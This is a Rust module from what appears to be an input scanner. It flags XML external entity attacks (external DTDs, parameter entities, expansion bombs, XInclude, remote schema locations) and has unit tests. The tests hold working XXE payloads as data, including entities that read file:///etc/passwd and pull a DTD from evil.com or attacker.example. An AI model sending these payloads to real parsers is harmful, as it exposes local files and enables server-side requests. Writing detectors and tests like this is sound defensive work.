//! XML external entities: document type declarations that pull in files or URLs (external
//! DTDs, `SYSTEM` / `PUBLIC` entities, parameter entities), entity expansion bombs, XInclude,
//! and schema imports from remote locations.

use super::ascii::{find, find_ci, find_ci_from, skip_space, starts_with_ci};
use super::{AttackClass, Finding};

/// Declarations examined per document.
const MAX_DECLS: usize = 256;

fn push(findings: &mut Vec<Finding>, rule: &'static str, score: u16, start: usize, end: usize) {
    findings.push(Finding {
        class: AttackClass::Xxe,
        rule,
        score,
        span: start..end.max(start),
    });
}

/// Judge an XML document (or any value that carries declarations).
pub(crate) fn detect(value: &str, whole_document: bool, findings: &mut Vec<Finding>) {
    let b = value.as_bytes();
    if let Some(at) = find_ci(b, b"<!doctype") {
        let end =
            memchr::memchr2(b'[', b'>', b.get(at..).unwrap_or(b"")).map_or(b.len(), |i| at + i);
        let head = b.get(at..end).unwrap_or(b"").to_ascii_uppercase();
        if find(&head, b" SYSTEM").is_some() || find(&head, b" PUBLIC").is_some() {
            return push(findings, "xxe.external-dtd", 5, at, end);
        }
    }
    let mut from = 0;
    let mut entities = 0;
    let mut first = 0;
    while let Some(at) = find_ci_from(b, b"<!entity", from) {
        from = at + 8;
        if entities == 0 {
            first = at;
        }
        entities += 1;
        if entities > MAX_DECLS {
            break;
        }
        // A declaration is short: `<!ENTITY` without `>` must not cost the rest of the value.
        let window = b.get(at..(at + 1024).min(b.len())).unwrap_or(b"");
        let end = memchr::memchr(b'>', window).map_or(at + window.len(), |i| at + i);
        let decl = b.get(at + 8..end).unwrap_or(b"").to_ascii_uppercase();
        let trimmed = decl
            .iter()
            .skip_while(|c| c.is_ascii_whitespace())
            .copied()
            .collect::<Vec<u8>>();
        if trimmed.first() == Some(&b'%') {
            return push(findings, "xxe.parameter-entity", 5, at, end);
        }
        if find(&decl, b"SYSTEM").is_some() || find(&decl, b"PUBLIC").is_some() {
            return push(findings, "xxe.external-entity", 5, at, end);
        }
        // An entity whose value refers to other entities is a step of an expansion bomb.
        if memchr::memchr(b'&', &decl).is_some() {
            return push(findings, "xxe.entity-expansion", 5, at, end);
        }
    }
    if entities > 0 {
        return push(
            findings,
            "xxe.internal-entity",
            if whole_document { 5 } else { 3 },
            first,
            first + 8,
        );
    }
    for marker in [&b"xi:include"[..], b"http://www.w3.org/2001/xinclude"] {
        if let Some(at) = find_ci(b, marker) {
            return push(findings, "xxe.xinclude", 5, at, at + marker.len());
        }
    }
    if !whole_document {
        return;
    }
    for marker in [
        &b"<xs:include"[..],
        b"<xs:import",
        b"<xs:redefine",
        b"<xsd:include",
        b"<xsd:import",
    ] {
        if let Some(at) = find_ci(b, marker) {
            let end = memchr::memchr(b'>', b.get(at..).unwrap_or(b"")).map_or(b.len(), |i| at + i);
            let tag = b.get(at..end).unwrap_or(b"");
            if find_ci(tag, b"http").is_some()
                || find_ci(tag, b"file:").is_some()
                || find_ci(tag, b"//").is_some()
            {
                return push(findings, "xxe.remote-schema", 5, at, end);
            }
        }
    }
    schema_locations(b, findings);
}

/// `xsi:schemaLocation` / `xsi:noNamespaceSchemaLocation` attributes whose location (not the
/// namespace name, which is only an identifier) is a remote URL: a validating parser fetches
/// it. Namespace names alone (`http://hl7.org/fhir ../fhir.xsd`) are not fetched.
fn schema_locations(b: &[u8], findings: &mut Vec<Finding>) {
    const MARKER: &[u8] = b"schemalocation";
    let mut from = 0;
    for _ in 0..MAX_DECLS {
        let Some(at) = find_ci_from(b, MARKER, from) else {
            return;
        };
        from = at + MARKER.len();
        let no_namespace = at >= 11 && starts_with_ci(b, at - 11, b"nonamespace");
        let eq = skip_space(b, from);
        if b.get(eq) != Some(&b'=') {
            continue;
        }
        let open = skip_space(b, eq + 1);
        let Some(&quote @ (b'"' | b'\'')) = b.get(open) else {
            continue;
        };
        let rest = b
            .get(open + 1..(open + 1 + 2048).min(b.len()))
            .unwrap_or(b"");
        let value = memchr::memchr(quote, rest).map_or(rest, |i| &rest[..i]);
        let tokens: Vec<&[u8]> = value
            .split(u8::is_ascii_whitespace)
            .filter(|t| !t.is_empty())
            .collect();
        // `namespace location` pairs; a single token is a location.
        let remote = tokens.iter().enumerate().any(|(i, t)| {
            (no_namespace || tokens.len() == 1 || i % 2 == 1) && is_remote_location(t)
        });
        if remote {
            return push(findings, "xxe.remote-schema", 5, at, open + 1 + value.len());
        }
    }
}

/// A location a parser would fetch from elsewhere: a URL with a network or file scheme, or a
/// network path.
fn is_remote_location(location: &[u8]) -> bool {
    [
        "http:", "https:", "ftp:", "file:", "jar:", "netdoc:", "gopher:", "//", "\\\\",
    ]
    .iter()
    .any(|scheme| starts_with_ci(location, 0, scheme.as_bytes()))
}

#[cfg(test)]
mod tests {
    use super::*;

    fn score(value: &str) -> u16 {
        let mut f = Vec::new();
        detect(value, true, &mut f);
        f.iter().map(|f| f.score).max().unwrap_or(0)
    }

    #[test]
    fn external_entities_and_friends() {
        for a in [
            "<!DOCTYPE foo [ <!ELEMENT foo ANY ><!ENTITY xxe SYSTEM \"file:///etc/passwd\" >]><foo>&xxe;</foo>",
            "<!DOCTYPE x [ <!ENTITY % y SYSTEM \"//y/y\" > %y; ]><x>a</x>",
            "<!DOCTYPE x SYSTEM \"//x/x\" > <x>a</x>",
            "<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY % xxe PUBLIC \"any_text\" \"http://evil.com/evil.dtd\">%xxe;]><root>&xxe;</root>",
            "<!DOCTYPE lolz [<!ENTITY lol \"lol\"><!ENTITY lol2 \"&lol;&lol;&lol;\">]><lolz>&lol2;</lolz>",
            "<foo xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include parse=\"text\" href=\"file:///etc/passwd\"/></foo>",
            "<xs:schema xmlns:xs=\"http://www.w3.org/2001/XMLSchema\"><xs:include namespace=\"http://x.example/\"/></xs:schema>",
            "<?xml version=\"1.0\"?><x xmlns:xsi=\"http://www.w3.org/2001/XMLSchema-instance\" xsi:schemaLocation=\"http://attacker.example/\"/>",
            "<x xsi:schemaLocation=\"urn:x http://attacker.example/x.xsd\"/>",
            "<x xsi:noNamespaceSchemaLocation = 'file:///etc/passwd'/>",
        ] {
            assert_eq!(score(a), 5, "missed: {a}");
        }
        for b in [
            "<Patient xmlns=\"http://hl7.org/fhir\"><id value=\"1\"/></Patient>",
            "<!DOCTYPE html><p>x</p>",
            "<Patient xmlns=\"http://hl7.org/fhir\" xmlns:xsi=\"http://www.w3.org/2001/XMLSchema-instance\" xsi:schemaLocation=\"http://hl7.org/fhir ../../schema/fhir-single.xsd\"><id value=\"1\"/></Patient>",
        ] {
            assert_eq!(score(b), 0, "false positive: {b}");
        }
    }
}
